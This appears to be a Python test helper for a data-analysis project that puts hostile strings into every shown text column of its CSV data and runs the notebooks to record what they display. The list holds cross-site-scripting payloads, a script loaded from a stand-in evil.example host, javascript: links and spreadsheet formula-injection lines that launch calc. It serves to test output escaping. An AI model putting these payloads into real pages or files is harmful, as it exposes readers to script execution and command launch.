@@ -1,0 +1,200 @@
+"""Hostile text in every text column of every data file, and every page's outputs made
+from it (for tests/test_hostile_text.py).
+
+:func:`make_hostile_data` copies data/ and puts every case of :data:`HOSTILE` in every
+cell of the columns a reader is shown (:func:`shown_columns`): each cell becomes all the
+cases, rotated so that each case comes first in some cell, then the cell's own text.
+
+Run as a script (``python tests/helpers_hostile.py OUT``, with ``DBANALYSIS_DATA``
+pointing at such a copy) it executes the code cells of every notebook in one process
+(as the build's kernels do, without their start-up), keeping each output as
+``bilingual`` publishes it, and writes ``OUT/outputs.json`` (every output, with its
+notebook), ``OUT/charts.json`` (every text each chart draws) and, for the one page
+opened in Chromium, ``OUT/notebooks/00-data-and-method.ipynb`` with its outputs.
+A separate process: the notebooks set matplotlib's and pandas' global options.
+"""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import shutil
+import sys
+import zlib
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[1]
+
+#: What an attacker or a careless editor puts in a data file. Each case carries its own
+#: marker (``alert(N)``, a host name) so that what it became can be told apart.
+HOSTILE = (
+    "<img src=x onerror=alert(7)>",
+    "<script src=https://evil.example/x.js></script>",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.example/i.png)",
+    "$\\frac{a}{$",
+    "=cmd|' /C calc'!A0",
+    "<svg onload=alert(2)>",
+    '<a href="javascript:alert(3)">a</a>',
+    "<iframe src=https://evil.example/f></iframe>",
+    "[y](https://evil.example/l)",
+    "<b onmouseover=alert(4)>b</b>",
+    '" onfocus="alert(5)" x="',
+    "<style>@import url(https://evil.example/s.css)</style>",
+    "&lt;img src=x onerror=alert(6)&gt;",
+    "<<img src=y onerror=alert(8)>>",
+    "[z]: https://evil.example/ref",
+    "<https://evil.example/auto>",
+    "javascript:alert(9)",
+    "+cmd|' /C calc'!A1",
+    "@SUM(1+1)*cmd|' /C calc'!A2",
+)
+
+#: String columns without a key, pattern or list of values that a reader is not shown,
+#: or that must hold something else than free text.
+NOT_TEXT = {
+    ("figures", "quote"): "words found in the report (the catalogue refuses others)",
+    ("coverage_exclusions", "context"): "words found in the report",
+    ("corrections", "corrected_value_formula"): "a formula over figure ids",
+    ("findings", "figure_ids"): "figure ids",
+    ("reference", "used_by"): "ids of derived figures and checks",
+    ("i18n/vi", "en"): "the English text translated (rewritten with it, not apart)",
+    ("vocab/units", "dimension"): "an id of a kind of quantity used by the code",
+    ("vocab/labels", "used_in"): "a note for editors",
+    ("derived", "formula"): "a formula template over the rule's roles",
+    ("derived", "unit"): "a unit id, or a role whose unit the figure takes",
+    ("derived", "label"): "a key of vocab/labels.csv (the label's template)",
+    ("derived", "assumption"): "a key of vocab/labels.csv (the assumption's template)",
+}
+
+
+def data_files() -> dict[str, Path]:
+    """Every data file with a schema: ``figures``, ``vocab/labels``, ``i18n/vi``, …"""
+    from dbanalysis.core import paths, schema
+
+    root = paths.data_dir()
+    return {n.removeprefix("input/"): root / (n.removeprefix("input/") + ".csv")
+            for n in schema.names() if n.startswith("input/")}
+
+
+def string_columns() -> list[tuple[str, str]]:
+    """Every free-text column of every data file: a string without a key, a pattern or a
+    list of values (its schema says so)."""
+    from dbanalysis.core import schema
+
+    out = []
+    for name in data_files():
+        spec = schema.load(f"input/{name}")
+        keys = set(spec.primary_key) | {f for fk in spec.foreign_keys for f in fk.fields}
+        out += [(name, f.name) for f in spec.fields
+                if f.type == "string" and f.name not in keys
+                and not {"pattern", "enum"} & set(f.constraints)]
+    return out
+
+
+def shown_columns() -> list[tuple[str, str]]:
+    return [c for c in string_columns() if c not in NOT_TEXT]
+
+
+#: Columns whose cells are templates (``{name}`` fields): a brace of data text is doubled
+#: there, as an editor writes one, so that the text shown is the case as written.
+TEMPLATES = {("vocab/labels", "en"), ("vocab/labels", "vi"), ("findings", "template_en"),
+             ("findings", "template_vi")}
+
+
+#: Cases per cell: a few, so that charts stay quick to draw; every case still reaches
+#: every column of more than a few rows (:func:`coverage`).
+PER_CELL = 4
+
+
+def payload(original: str, template: bool = False) -> str:
+    """All the cases, rotated by the cell's own text (the same text gets the same payload
+    in every file: an English note and its row in i18n/vi.csv stay one text), then the
+    text; braces doubled in a template."""
+    k = zlib.crc32(original.encode()) % len(HOSTILE)
+    cases = " ".join((HOSTILE[k:] + HOSTILE[:k])[:PER_CELL])
+    if template:
+        cases = cases.replace("{", "{{").replace("}", "}}")
+    return f"{cases} {original}" if original else cases
+
+
+def make_hostile_data(dst: Path) -> Path:
+    """A copy of data/ at ``dst`` with :func:`payload` in every shown column."""
+    from dbanalysis.core import paths
+
+    shutil.copytree(paths.data_dir(), dst)
+    columns: dict[str, set[str]] = {}
+    for name, column in shown_columns():
+        columns.setdefault(name, set()).add(column)
+    columns.setdefault("i18n/vi", set()).add("en")  # the English a translation is of
+    for name, cols in columns.items():
+        path = dst / f"{name}.csv"
+        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+        header = rows[0]
+        for row in rows[1:]:
+            for col in cols:
+                i = header.index(col)
+                if row[i] or (name, col) == ("figures", "note"):  # every figure: a note
+                    row[i] = payload(row[i], (name, col) in TEMPLATES)
+        buf = io.StringIO()
+        csv.writer(buf, lineterminator="\n").writerows(rows)
+        path.write_text(buf.getvalue(), encoding="utf-8")
+    return dst
+
+
+# --------------------------------------------------------------------------- the run
+
+
+def run_notebooks(out: Path) -> None:
+    """Execute every notebook's code in this process; write what they show into ``out``."""
+    import matplotlib
+
+    matplotlib.use("Agg")
+    import nbformat
+    from IPython.core.interactiveshell import InteractiveShell
+    from matplotlib.text import Text
+
+    from dbanalysis import plotting
+    from dbanalysis.notebook import bilingual as bi
+
+    InteractiveShell.instance()  # IPython's formatters, as in a kernel
+    published: list[tuple[dict, dict]] = []
+    bi._publish = lambda data, md: published.append((data, md))  # type: ignore[assignment]
+    charts: list[dict] = []
+    png_bytes = plotting.png_bytes
+
+    def drawn(fig):  # what every chart draws, and that it draws
+        data = png_bytes(fig)
+        charts.append({"texts": [t.get_text() for t in fig.findobj(Text) if t.get_text()],
+                       "math": [t.get_text() for t in fig.findobj(Text)
+                                if t.get_parse_math() and t.get_text()]})
+        return data
+
+    plotting.png_bytes = drawn
+    outputs = []
+    (out / "notebooks").mkdir(parents=True, exist_ok=True)
+    for path in sorted((REPO / "notebooks").glob("*.ipynb")):
+        nb = nbformat.read(path, as_version=4)
+        ns: dict = {"__name__": "__main__"}
+        for cell in nb.cells:
+            if cell.cell_type != "code":
+                continue
+            start = len(published)
+            exec(compile(cell.source, str(path), "exec"), ns)
+            cell.outputs = []
+            for data, md in published[start:]:
+                data = {k: base64.b64encode(v).decode() if isinstance(v, bytes) else v
+                        for k, v in data.items()}
+                outputs.append({"notebook": path.name, "data": data, "metadata": md})
+                cell.outputs.append(nbformat.v4.new_output("display_data", data=data,
+                                                           metadata=md))
+        if path.name == "00-data-and-method.ipynb":
+            nbformat.write(nb, out / "notebooks" / path.name)
+    (out / "outputs.json").write_text(json.dumps(outputs), encoding="utf-8")
+    (out / "charts.json").write_text(json.dumps(charts), encoding="utf-8")
+
+
+if __name__ == "__main__":
+    run_notebooks(Path(sys.argv[1]))
